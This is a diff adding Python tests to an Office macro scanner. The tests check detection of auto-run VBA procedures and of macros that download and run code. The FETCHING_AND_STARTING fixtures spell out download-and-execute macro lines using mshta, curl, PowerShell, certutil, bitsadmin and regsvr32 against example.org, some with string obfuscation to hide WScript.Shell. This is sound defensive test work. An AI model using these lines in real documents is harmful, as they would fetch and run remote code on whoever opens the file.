@@ -43,6 +43,66 @@ End Sub
 """
 
 
+SELF_STARTING = [
+    "Sub AutoOpen()", "Sub AUTO_OPEN()", "Sub AutoExit()", "Function AutoExec() As Long", "Sub Auto_Close()",
+    "Private Sub  \t Document_Open()", "Sub _\r\n Document_Open()", "Sub  _ \r\n _\r\n\tAuto_Open()",
+    "Sub [Auto_Open]()", "Public Static Sub Workbook_BeforeSave(ByVal a As Boolean, b As Boolean)",
+    "Sub Document_ContentControlOnEnter(ByVal c As ContentControl)", "Sub Workbook_SheetCalculate(ByVal s As Object)",
+    "Sub InkEdit1_GotFocus()", "Sub Frame1_Layout()", "Sub App_DocumentBeforeClose()", "x = 1: Sub Document_New()",
+    "Sub WebBrowser1_DocumentComplete(ByVal d As Object, u As Variant)", "Sub Image7_MouseMove(ByVal b As Integer)",
+    "Sub Loaded(ribbon As IRibbonUI)", "Sub\xa0AutoNew()",
+]  # fmt: skip
+NOT_SELF_STARTING = [
+    "Sub Total()", "Sub CommandButton1_Click()", "' Sub AutoOpen()", "Rem Sub AutoOpen()", 'x = "Sub AutoOpen()"',
+    "Sub AutoOpening()", "Call AutoOpen", "Sub UserForm_Initialize()",
+]  # fmt: skip
+FETCHING_AND_STARTING = [
+    'Shell "mshta http://example.org/a"',
+    'Shell "mshta.exe http://example.org/a.hta", 0',
+    'Shell "cmd /c curl -o a.exe http://example.org/a & a.exe"',
+    'Shell ("powershell iwr http://example.org/a -OutFile a.exe; .\\a.exe")',
+    'CreateObject("WScr" & "ipt.Shell").Run "certutil -urlcache -f http://example.org/a a.exe"',
+    'CreateObject("WScript" + ".Shell").Run "bits" & _\r\n "admin /transfer a"',
+    'CreateObject(Chr(87) & "Script.She" & ChrW(&H6C) & "l").Exec "wget http://example.org/a"',
+    "Dim h As New XMLHTTP60\nShell a, 0",
+    'Set h = CreateObject("Microsoft.XMLHTTP")\nVBA.Shell (a)',
+    'URLDownloadToCacheFile 0, "http://example.org/a", b, 9, 0, 0\nShellExecuteA 0, "open", b, "", "", 0',
+    'GetObject("winmgmts:").Get("Win32_Process").Create "regsvr32 /i:http://example.org/a scrobj.dll"',
+    "Set h = New WinHttpRequest\nDim s As New WshShell\ns.Run a",
+]  # fmt: skip
+NOT_BOTH = [
+    'x = "curl"',
+    'Set h = CreateObject("MSXML2.XMLHTTP")',
+    'Shell "notepad.exe"',
+    '\' Shell "mshta http://example.org/a"',
+    "curl = 1: wget = 2: Shell a",
+]
+
+
+@each_row("procedure", SELF_STARTING)
+def test_macro_that_office_runs_by_itself_is_flagged_in_every_spelling(procedure: str) -> None:
+    flags = scan_bytes(with_macro(f"{procedure}\r\nMsgBox 1\r\n".encode("latin-1")))["flags"]
+    assert flags == ["macro", "macro.autorun"]
+
+
+@each_row("line", NOT_SELF_STARTING)
+def test_macro_that_a_person_runs_is_not_flagged_as_running_by_itself(line: str) -> None:
+    assert scan_bytes(with_macro(f"{line}\r\nMsgBox 1\r\n".encode()))["flags"] == ["macro"]
+
+
+@each_row("code", FETCHING_AND_STARTING)
+def test_macro_that_fetches_and_starts_is_a_threat_where_it_runs_by_itself(code: str) -> None:
+    threat = "Macro.Fetches-And-Starts"
+    assert threat_in(with_macro(f"Sub AutoOpen()\r\n{code}\r\nEnd Sub\r\n".encode())) == threat
+    assert threat_in(with_macro(f"Sub _\r\n\t[App_WorkbookOpen]()\r\n{code}\r\nEnd Sub\r\n".encode())) == threat
+    assert threat_in(with_macro(f"Sub Update()\r\n{code}\r\nEnd Sub\r\n".encode())) is None
+
+
+@each_row("code", NOT_BOTH)
+def test_macro_that_does_not_fetch_and_start_is_no_threat(code: str) -> None:
+    assert threat_in(with_macro(f"Sub AutoOpen()\r\n{code}\r\nEnd Sub\r\n".encode())) is None
+
+
 @each_row(
     ("case", "data", "threat"),
     [
